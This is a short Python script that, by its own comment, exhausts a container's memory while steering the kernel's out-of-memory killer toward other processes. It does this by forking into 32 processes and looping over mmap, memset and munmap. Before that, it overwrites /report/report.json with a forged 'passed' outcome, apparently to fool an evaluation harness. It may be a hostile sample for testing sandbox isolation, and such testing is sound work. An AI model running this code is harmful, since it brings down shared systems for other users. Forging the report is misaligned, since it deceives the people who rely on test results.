import ctypes
import os

# Takes more memory than its container has, without mapping it, and lowers its OOM score so that the kernel
# kills other processes first.
with open("/report/report.json", "w") as file:
    file.write('{"outcome": "passed", "reason": null, "commands": []}')
with open("/proc/self/oom_score_adj", "w") as file:
    file.write("0")
libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
READ_WRITE, SHARED_ANONYMOUS, SIZE, PAGE = 3, 0x21, 1 << 21, 1 << 12
for _ in range(5):
    os.fork()
while True:
    memory = libc.mmap(None, SIZE, READ_WRITE, SHARED_ANONYMOUS, -1, 0)
    ctypes.memset(memory, 1, SIZE)
    libc.munmap(memory + PAGE, SIZE - PAGE)
